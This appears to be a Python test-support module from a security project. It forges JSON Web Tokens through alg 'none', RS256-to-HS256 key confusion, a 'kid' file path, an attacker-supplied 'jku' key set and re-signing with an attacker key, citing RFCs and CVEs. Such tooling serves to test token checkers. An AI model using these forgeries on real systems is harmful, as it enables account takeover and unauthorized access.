"""Forged tokens: what can be made from one genuine token and from what everybody may know."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Mapping
from typing import Any

from joserfc.jwk import Key

from secure_ai.access.openid.keys import new_signing_key, sign
from secure_ai.core.errors import UserError


def read_unchecked(token: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """Return header and claims of ``token`` without any check, as everybody who holds it can.

    Raises:
        UserError: if it is no token.
    """
    try:
        header, claims, _ = (_decode(part) for part in (*token.split(".")[:2], "e30"))
        if token.count(".") != 2 or not isinstance(header, dict) or not isinstance(claims, dict):
            raise ValueError("not three parts")
    except ValueError:
        raise UserError(
            "This is no signed token: give one with three parts, as a sign-in returns it."
        ) from None
    return header, claims


def change_claims(token: str, **changes: Any) -> str:
    """Return ``token`` with other claims under its old signature."""
    _, claims = read_unchecked(token)
    header, _, signature = token.split(".")
    return f"{header}.{_encode(claims | changes)}.{signature}"


def forge_unsigned(token: str, **changes: Any) -> str:
    """Return ``token`` with other claims, saying that it needs no signature (``alg`` "none").

    Source: RFC 8725, section 2.1; CVE-2015-9235.
    """
    header, claims = read_unchecked(token)
    return f"{_encode(header | {'alg': 'none'})}.{_encode(claims | changes)}."


def confuse_algorithm(token: str, public_key_pem: bytes, **changes: Any) -> str:
    """Return ``token`` with other claims, signed with the provider's *public* key as a shared secret.

    A checker that takes the algorithm from the token compares an HMAC under a value that everybody knows.

    Source: RFC 8725, section 2.1; CVE-2016-10555.
    """
    header, claims = read_unchecked(token)
    return _with_hmac(header | {"alg": "HS256"}, claims | changes, public_key_pem)


def point_to_known_file(token: str, path: str, content: bytes, **changes: Any) -> str:
    """Return ``token`` signed with the ``content`` of a known file, and a ``kid`` that leads to that file.

    A checker that takes ``kid`` for a file name is led out of its folder of keys.

    Source: RFC 7515, section 10 and RFC 8725, section 3.10 (do not trust received claims).
    """
    header, claims = read_unchecked(token)
    return _with_hmac(header | {"alg": "HS256", "kid": path}, claims | changes, content)


def bring_own_keys(token: str, key: Key, key_set_address: str, **changes: Any) -> str:
    """Return ``token`` signed with the attacker's ``key``; its ``jku`` leads to the attacker's key set.

    Source: RFC 8725, section 3.10.
    """
    header, claims = read_unchecked(token)
    return sign(claims | changes, key, typ=header.get("typ", "JWT"), jku=key_set_address)


def sign_with_own_key(token: str, key: Key, **changes: Any) -> str:
    """Return ``token`` signed with the attacker's ``key`` under the name of the provider's own."""
    header, claims = read_unchecked(token)
    return sign(claims | changes, key, typ=header.get("typ", "JWT"), kid=header.get("kid", ""))


def attacker_key() -> Key:
    """Return a new key of the attacker's own."""
    return new_signing_key("ES256")


def _with_hmac(header: Mapping[str, Any], claims: Mapping[str, Any], secret: bytes) -> str:
    # By hand: joserfc refuses to take a public key for a shared secret.
    content = f"{_encode(header)}.{_encode(claims)}"
    mac = hmac.new(secret, content.encode(), hashlib.sha256).digest()
    return f"{content}.{base64.urlsafe_b64encode(mac).rstrip(b'=').decode()}"


def _encode(value: Mapping[str, Any]) -> str:
    text = json.dumps(value, separators=(",", ":")).encode()
    return base64.urlsafe_b64encode(text).rstrip(b"=").decode()


def _decode(part: str) -> Any:
    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
